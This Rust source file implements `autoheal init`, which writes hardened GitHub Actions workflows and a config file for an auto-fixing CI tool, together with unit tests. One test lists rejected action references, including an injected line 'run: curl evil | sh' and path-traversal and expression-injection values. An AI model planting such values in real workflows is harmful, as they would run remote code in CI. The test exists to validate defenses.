//! `autoheal init`: the files it writes, as data. The CLI does the I/O (reading the
//! repository's workflows, resolving a tag to a commit, writing the files).
//!
//! The templates follow the threat model in `docs/ci-setup.md`: `workflow_run` on `completed`
//! for the watched workflows, a job-level `if:` for `failure`/`cancelled`, `permissions: {}`
//! at the top and the minimum per job, no checkout of the failed run's code, every value
//! passed through `env:` (never `${{ }}` inside a `run:` script), and the action pinned the
//! way the user chose. They pass `autoheal check` and zizmor (`.ci/run` checks both).

use std::collections::BTreeSet;

use autoheal_engine::model::Workflow;
use autoheal_engine::yaml;

pub const MONITOR_PATH: &str = ".github/workflows/workflow-failure-monitor.yml";
pub const HEAL_PATH: &str = ".github/workflows/auto-heal-workflow.yml";
pub const CONFIG_PATH: &str = ".github/autoheal.yml";
/// The composite action (this project's root `action.yml`) that puts `autoheal` on PATH.
pub const DEFAULT_ACTION: &str = "autoheal-dev/autoheal@v0";
/// Events whose runs the monitor watches by default: the workflows that check code.
const WATCHED_EVENTS: [&str; 2] = ["push", "pull_request"];

/// How issues become pull requests.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Mode {
    /// The monitor runs `autoheal heal --run-id`: report and fix in one job. Works with the
    /// built-in `GITHUB_TOKEN`, whose issues cannot trigger other workflows.
    #[default]
    Single,
    /// The monitor only reports; `auto-heal-workflow.yml` heals when the issue is labeled.
    /// Needs an App or PAT token (secret `AUTOHEAL_TOKEN`) so the new issue triggers it.
    TwoWorkflow,
}

/// A `uses:` reference to the action that installs autoheal: `OWNER/REPO[/PATH]@REF`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ActionRef {
    /// `OWNER/REPO` or `OWNER/REPO/PATH`.
    pub action: String,
    /// A tag, a branch or a full commit sha.
    pub reference: String,
    /// What a sha stands for (the tag it was resolved from), written as a comment.
    pub comment: Option<String>,
}

impl ActionRef {
    /// Parses and validates `OWNER/REPO[/PATH]@REF`. Only this shape is accepted: a local
    /// (`./…`) or Docker action cannot install autoheal in a job that checks nothing out, and
    /// anything else could break out of the YAML line it is written into.
    pub fn parse(raw: &str) -> Result<ActionRef, InitError> {
        let invalid = |why: &str| InitError::InvalidAction {
            action: raw.chars().take(100).collect(),
            why: why.to_string(),
        };
        let (action, reference) = raw.split_once('@').ok_or_else(|| invalid("it has no `@REF`"))?;
        let mut parts = action.split('/');
        let owner = parts.next().unwrap_or_default();
        let repo = parts.next().ok_or_else(|| invalid("it is not OWNER/REPO"))?;
        let owner_ok = !owner.is_empty()
            && owner.len() <= 39
            && !owner.starts_with('-')
            && owner.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
        if !owner_ok {
            return Err(invalid("the owner is not a GitHub user or organization name"));
        }
        let segment_ok = |s: &str| {
            !s.is_empty() && s != "." && s != ".." && s.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
        };
        if !segment_ok(repo) || !parts.all(segment_ok) {
            return Err(invalid("the repository or path has characters GitHub does not allow"));
        }
        let reference_ok = !reference.is_empty()
            && !reference.starts_with(['-', '/', '.'])
            && !reference.contains("..")
            && reference
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "._-/".contains(c));
        if !reference_ok {
            return Err(invalid("the ref is not a tag, branch or commit sha"));
        }
        Ok(ActionRef {
            action: action.to_string(),
            reference: reference.to_string(),
            comment: None,
        })
    }

    /// Whether the reference is a full commit sha (what zizmor and GitHub's hardening guide
    /// call pinned: a tag can be moved, a sha cannot).
    pub fn is_pinned(&self) -> bool {
        is_commit_sha(&self.reference)
    }

    /// `OWNER/REPO` (without a path), whose commits a tag resolves to.
    pub fn repository(&self) -> &str {
        let mut slashes = self.action.match_indices('/');
        match slashes.nth(1) {
            Some((at, _)) => &self.action[..at],
            None => &self.action,
        }
    }

    /// The same action pinned to `sha`, remembering the ref it came from.
    pub fn pinned_to(&self, sha: &str) -> ActionRef {
        ActionRef {
            action: self.action.clone(),
            reference: sha.to_string(),
            comment: Some(self.reference.clone()),
        }
    }

    /// The value of `uses:`, with the resolved ref as a trailing comment.
    fn uses(&self) -> String {
        match &self.comment {
            Some(from) => format!("{}@{}  # {from}", self.action, self.reference),
            None => format!("{}@{}", self.action, self.reference),
        }
    }
}

/// A 40-character hexadecimal commit sha.
pub fn is_commit_sha(text: &str) -> bool {
    text.len() == 40 && text.chars().all(|c| c.is_ascii_hexdigit())
}

#[derive(Debug, Clone)]
pub struct InitOptions {
    /// Names (the `name:` field, or the path of an unnamed workflow) of the workflows to
    /// watch; see [`watched_workflows`].
    pub workflows: Vec<String>,
    pub mode: Mode,
    /// Overwrite existing files.
    pub force: bool,
    /// The action that installs autoheal.
    pub action: ActionRef,
    /// Write the `copilot:` settings into the config.
    pub copilot: bool,
}

impl Default for InitOptions {
    fn default() -> Self {
        InitOptions {
            workflows: vec!["CI".to_string()],
            mode: Mode::Single,
            force: false,
            action: ActionRef {
                action: "autoheal-dev/autoheal".into(),
                reference: "v0".into(),
                comment: None,
            },
            copilot: false,
        }
    }
}

/// A file `init` wants to write.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InitFile {
    /// Relative to the repository root.
    pub path: &'static str,
    pub contents: String,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum InitError {
    #[error("refusing to overwrite {}; pass --force to replace", .0.join(", "))]
    WouldOverwrite(Vec<String>),
    #[error("`--action {action}` is not OWNER/REPO[/PATH]@REF: {why}")]
    InvalidAction { action: String, why: String },
    #[error(
        "no workflow in .github/workflows/ runs on push or pull_request; name the workflows to watch with --workflows NAME..."
    )]
    NoWorkflows,
}

/// The workflows to watch by default: every workflow (path, text) with a `push` or
/// `pull_request` trigger, by its `name:` or, unnamed, by its path (the name GitHub gives
/// it). autoheal's own workflows are left out.
pub fn watched_workflows(files: &[(String, String)]) -> Vec<String> {
    let mut names = Vec::new();
    for (path, text) in files {
        if path == MONITOR_PATH || path == HEAL_PATH {
            continue;
        }
        let doc = yaml::parse(text.as_bytes());
        let Some(root) = doc.root.as_ref() else { continue };
        let workflow = Workflow::new(root);
        if !workflow.events().iter().any(|e| WATCHED_EVENTS.contains(e)) {
            continue;
        }
        let name = workflow
            .name()
            .map(str::trim)
            .filter(|n| !n.is_empty() && !n.contains("${{"))
            .unwrap_or(path);
        if !names.iter().any(|n| n == name) {
            names.push(name.to_string());
        }
    }
    names
}

/// The files to write. `existing` holds the repository-relative paths that already exist;
/// unless `force`, any overlap is refused and nothing should be written.
pub fn plan_init(options: &InitOptions, existing: &BTreeSet<String>) -> Result<Vec<InitFile>, InitError> {
    if options.workflows.iter().all(|n| n.trim().is_empty()) {
        return Err(InitError::NoWorkflows);
    }
    let files = vec![
        InitFile {
            path: MONITOR_PATH,
            contents: monitor_workflow(options),
        },
        InitFile {
            path: HEAL_PATH,
            contents: heal_workflow(options),
        },
        InitFile {
            path: CONFIG_PATH,
            contents: config_file(options.copilot),
        },
    ];
    let clashes: Vec<String> = files
        .iter()
        .filter(|f| existing.contains(f.path))
        .map(|f| f.path.to_string())
        .collect();
    if !clashes.is_empty() && !options.force {
        return Err(InitError::WouldOverwrite(clashes));
    }
    Ok(files)
}

/// A YAML double-quoted scalar, so any workflow name is safe in a flow list.
fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn workflow_list(options: &InitOptions) -> String {
    options
        .workflows
        .iter()
        .filter(|n| !n.trim().is_empty())
        .map(|n| format!("      - {}\n", quoted(n)))
        .collect()
}

/// The token expression of the generated jobs: the built-in token, or the `AUTOHEAL_TOKEN`
/// secret when one is needed (two-workflow mode; the Copilot hand-off, which takes a user
/// token) with the built-in token as the fallback.
fn token(options: &InitOptions) -> &'static str {
    if options.mode == Mode::TwoWorkflow || options.copilot {
        "${{ secrets.AUTOHEAL_TOKEN || github.token }}"
    } else {
        "${{ github.token }}"
    }
}

fn monitor_workflow(options: &InitOptions) -> String {
    let (permissions, step_name, command, mode_note) = match options.mode {
        Mode::Single => (
            "      contents: write       # push the fix branch\n      pull-requests: write  # open the fix PR\n      issues: write         # file or update the failure issue\n      actions: read         # read the failed run, its jobs and logs\n      checks: read          # read annotations (how a timeout shows)\n",
            "Report the failure and propose a fix",
            "autoheal heal --repo \"$REPO\" --run-id \"$RUN_ID\"",
            "# Mode: single workflow (default). Issues created with GITHUB_TOKEN do not trigger other\n# workflows, so this job reports AND heals. Note: GITHUB_TOKEN may not change files under\n# .github/workflows/; autoheal then posts the patch as a comment, labels the issue\n# needs-manual-fix and exits 0 with a notice. See docs/ci-setup.md for App/PAT tokens.\n",
        ),
        Mode::TwoWorkflow => (
            "      contents: read        # read the workflow file at the failed commit\n      issues: write         # file or update the failure issue\n      actions: read         # read the failed run, its jobs and logs\n      checks: read          # read annotations (how a timeout shows)\n",
            "Report the failure",
            "autoheal report --repo \"$REPO\" --run-id \"$RUN_ID\"",
            "# Mode: two workflows. This job only files the issue; auto-heal-workflow.yml opens the PR\n# when the issue is labeled auto-heal. That needs a GitHub App or PAT token in the\n# AUTOHEAL_TOKEN secret, because issues created with GITHUB_TOKEN trigger no workflows.\n# (The runner sets GITHUB_API_URL, so GitHub Enterprise works unchanged.)\n",
        ),
    };
    format!(
        "# Generated by `autoheal init`: watches the workflows below and files an issue (and a fix\n# PR) when one of them fails or is cancelled.\n{mode_note}name: Workflow failure monitor\n\non:\n  # workflow_run runs with this repository's token after runs anyone can start (a fork's\n  # pull request). This job is built for it: it checks nothing out and runs no code of the\n  # failed run, values reach the script only through env:, and autoheal only reports runs\n  # from forks or from users without write access (see the threat model in docs/ci-setup.md).\n  workflow_run:  # zizmor: ignore[dangerous-triggers]\n    # The workflows to watch, by their `name:`.\n    workflows:\n{workflows}    types: [completed]\n\n# Nothing by default; the job asks for what it needs.\npermissions: {{}}\n\nconcurrency:\n  group: autoheal-run-${{{{ github.event.workflow_run.id }}}}\n  cancel-in-progress: false\n\njobs:\n  autoheal:\n    # Only failed or cancelled runs; autoheal itself skips runs cancelled by hand.\n    if: github.event.workflow_run.conclusion == 'failure' || github.event.workflow_run.conclusion == 'cancelled'\n    runs-on: ubuntu-latest\n    timeout-minutes: 20\n    permissions:\n{permissions}    steps:\n      # No checkout: the failed run's code is never executed here. autoheal reads the\n      # workflow file through the API.\n      - name: Install autoheal\n        uses: {action}\n      - name: {step_name}\n        env:\n          GH_TOKEN: {token}\n          REPO: ${{{{ github.repository }}}}\n          RUN_ID: ${{{{ github.event.workflow_run.id }}}}\n        run: {command}\n",
        workflows = workflow_list(options),
        action = options.action.uses(),
        token = token(options),
    )
}

fn heal_workflow(options: &InitOptions) -> String {
    format!(
        "# Generated by `autoheal init`: turns an issue labeled `auto-heal` into a fix PR.\n# In the default single-workflow mode this is the manual trigger: add the `auto-heal`\n# label to an issue to (re)try the fix. In two-workflow mode it runs for every issue the\n# monitor files. Issues labeled `needs-manual-fix` are skipped (the opt-out). autoheal\n# takes only the run id from the issue and re-reads that run, so an issue anyone opened\n# cannot choose what is committed.\nname: Auto-heal workflow\n\non:\n  issues:\n    types: [opened, labeled]\n\npermissions: {{}}\n\nconcurrency:\n  group: autoheal-issue-${{{{ github.event.issue.number }}}}\n  cancel-in-progress: false\n\njobs:\n  heal:\n    if: contains(github.event.issue.labels.*.name, 'auto-heal') && !contains(github.event.issue.labels.*.name, 'needs-manual-fix')\n    runs-on: ubuntu-latest\n    timeout-minutes: 20\n    permissions:\n      contents: write       # push the fix branch\n      pull-requests: write  # open the fix PR\n      issues: write         # comment and label the issue\n      actions: read         # read the failed run's logs\n      checks: read          # read annotations\n    steps:\n      - name: Install autoheal\n        uses: {action}\n      - name: Open or update the fix PR\n        env:\n          GH_TOKEN: {token}\n          REPO: ${{{{ github.repository }}}}\n          ISSUE_NUMBER: ${{{{ github.event.issue.number }}}}\n        run: autoheal heal --repo \"$REPO\" --issue \"$ISSUE_NUMBER\"\n",
        action = options.action.uses(),
        token = token(options),
    )
}

/// The commented examples of the config file: (explanation, YAML). Uncommented, every
/// example is valid configuration (a test parses them all).
pub const CONFIG_EXAMPLES: [(&str, &str); 7] = [
    (
        "Turn rules off or change their severity (`autoheal rules` lists them):",
        "rules:\n  shell: off\n  deprecated-commands:\n    severity: warning\n",
    ),
    (
        "Paths (globs from the repository root) not to lint:",
        "ignore:\n  - .github/workflows/experimental-*.yml\n",
    ),
    (
        "Labels of self-hosted or larger runners used by this repository:",
        "runner-labels:\n  - gpu-large\n",
    ),
    (
        "Run shellcheck on run: scripts when it is installed:",
        "shellcheck: true\n",
    ),
    (
        "Extra failure patterns for the log analyzer (category is one of missing_dependency,\ntimeout, missing_command, file_not_found, yaml_syntax, optional_job, rate_limit):",
        "log-patterns:\n  - regex: 'cannot find tool (\\S+)'\n    category: missing_command\n    subject-group: 1\n",
    ),
    (
        "What heal does with a run from a fork or from a user without write access: report\n(the analysis only, the default), heal (like any run; see the risks in docs/config.md)\nor off (file nothing). Read from the default branch only.",
        "heal:\n  untrusted-runs: report\n",
    ),
    (
        "The Copilot stage (needs Copilot for the repository; see docs/ci-setup.md): request a\nCopilot review on every heal PR, and hand failures no rule can fix to the coding agent.",
        "copilot:\n  review: true\n  assign-unfixable: true\n",
    ),
];

fn commented(text: &str) -> String {
    text.lines().map(|l| format!("# {l}\n")).collect()
}

fn config_file(copilot: bool) -> String {
    let mut out = String::from(
        "# autoheal configuration (written by `autoheal init`). Every key is optional; the\n# commented examples are valid once uncommented.\n\n# Findings at or above this severity make `autoheal check` exit 1: error or warning.\nfail-level: error\n",
    );
    for (explanation, example) in CONFIG_EXAMPLES {
        let is_copilot = example.starts_with("copilot:");
        out.push('\n');
        out.push_str(&commented(explanation));
        if is_copilot && copilot {
            out.push_str(example);
        } else {
            out.push_str(&commented(example));
        }
    }
    out.push_str(
        "\n# After this many rejected (closed unmerged) PRs, a fix type or failure fingerprint stops\n# producing PRs and is filed as a suggestion labeled needs-manual-fix instead.\nrejection-threshold: 3\n",
    );
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn refuses_to_overwrite_without_force() {
        let existing: BTreeSet<String> = [HEAL_PATH.to_string(), "README.md".to_string()].into();
        let refused = plan_init(&InitOptions::default(), &existing);
        assert_eq!(refused, Err(InitError::WouldOverwrite(vec![HEAL_PATH.to_string()])));
        let forced = plan_init(
            &InitOptions {
                force: true,
                ..InitOptions::default()
            },
            &existing,
        );
        assert_eq!(forced.map(|files| files.len()), Ok(3));
        let none = plan_init(
            &InitOptions {
                workflows: vec![],
                ..InitOptions::default()
            },
            &BTreeSet::new(),
        );
        assert_eq!(none, Err(InitError::NoWorkflows));
    }

    #[test]
    fn workflow_names_are_quoted_and_listed() {
        let options = InitOptions {
            workflows: vec!["CI".into(), "Deploy \"prod\"".into()],
            ..InitOptions::default()
        };
        let monitor = monitor_workflow(&options);
        assert!(
            monitor.contains("      - \"CI\"\n      - \"Deploy \\\"prod\\\"\"\n"),
            "{monitor}"
        );
    }

    #[test]
    fn the_watched_workflows_are_the_repositorys_push_and_pull_request_ones() {
        let files: Vec<(String, String)> = [
            (
                ".github/workflows/ci.yml",
                "name: Tests\non: [push, pull_request]\njobs: {}\n",
            ),
            (
                ".github/workflows/lint.yml",
                "on:\n  pull_request:\n    branches: [main]\njobs: {}\n",
            ),
            (
                ".github/workflows/release.yml",
                "name: Release\non:\n  release:\n    types: [published]\njobs: {}\n",
            ),
            (".github/workflows/nightly.yml", "name: Nightly\non: push\njobs: {}\n"),
            (MONITOR_PATH, "name: Workflow failure monitor\non: push\njobs: {}\n"),
            (".github/workflows/broken.yml", "on: [push\n"),
        ]
        .iter()
        .map(|(p, t)| (p.to_string(), t.to_string()))
        .collect();
        assert_eq!(
            watched_workflows(&files),
            ["Tests", ".github/workflows/lint.yml", "Nightly"]
        );
    }

    #[test]
    fn actions_are_validated_and_pinned_as_asked() {
        let sha = "0123456789abcdef0123456789abcdef01234567";
        let tag = ActionRef::parse("autoheal-dev/autoheal@v0").unwrap_or_else(|e| panic!("{e}"));
        assert!(!tag.is_pinned());
        assert_eq!(tag.repository(), "autoheal-dev/autoheal");
        let pinned = tag.pinned_to(sha);
        assert_eq!(pinned.uses(), format!("autoheal-dev/autoheal@{sha}  # v0"));
        let nested = ActionRef::parse(&format!("octo/tools/install-autoheal@{sha}")).unwrap_or_else(|e| panic!("{e}"));
        assert!(nested.is_pinned());
        assert_eq!(nested.repository(), "octo/tools");
        for bad in [
            "autoheal",
            "autoheal-dev/autoheal",
            "./local@v1",
            "docker://x/y@1",
            "o/r@v1\n    run: curl evil | sh",
            "o/r@v1 # x",
            "o/../r@v1",
            "-o/r@v1",
            "o/r@../x",
            "o/r@${{ github.ref }}",
        ] {
            assert!(ActionRef::parse(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn modes_pick_command_and_permissions() {
        let single = monitor_workflow(&InitOptions::default());
        assert!(single.contains("run: autoheal heal --repo \"$REPO\" --run-id \"$RUN_ID\""));
        assert!(single.contains("contents: write"));
        let two = monitor_workflow(&InitOptions {
            mode: Mode::TwoWorkflow,
            ..InitOptions::default()
        });
        assert!(two.contains("run: autoheal report --repo \"$REPO\" --run-id \"$RUN_ID\""));
        assert!(two.contains("contents: read") && !two.contains("contents: write"));
        assert!(two.contains("secrets.AUTOHEAL_TOKEN"));
        assert!(!single.contains("AUTOHEAL_TOKEN"));
        let copilot = monitor_workflow(&InitOptions {
            copilot: true,
            ..InitOptions::default()
        });
        assert!(copilot.contains("GH_TOKEN: ${{ secrets.AUTOHEAL_TOKEN || github.token }}"));
    }
}
